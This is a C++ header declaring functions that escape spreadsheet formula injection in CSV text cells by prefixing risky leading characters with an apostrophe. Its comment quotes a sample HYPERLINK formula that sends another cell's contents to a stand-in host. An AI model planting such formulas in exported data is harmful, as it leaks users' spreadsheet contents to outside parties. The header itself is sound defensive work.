// Text cells of the files a spreadsheet opens as text (CSV and the like): a
// cell that begins with "=", "+", "-", "@", a tab or a carriage return is
// taken for a formula by Excel and LibreOffice, and a page line we harvested
// can begin so on purpose ('=HYPERLINK("http://x.example/?"&A2, ...)').
// Such a cell gets a leading "'", which makes the spreadsheet show it as
// text. Works on UTF-8 and GBK alike: the characters in question are ASCII.
#pragma once

#include <string>
#include <string_view>

namespace valo {

// Whether a spreadsheet would read this text cell as a formula.
bool readAsFormula(std::string_view cell);

// Appends the cell to `out`, with the leading "'" when readAsFormula holds.
// Only for text: a number the program wrote itself goes in as it is.
void appendSpreadsheetText(std::string& out, std::string_view cell);

}  // namespace valo
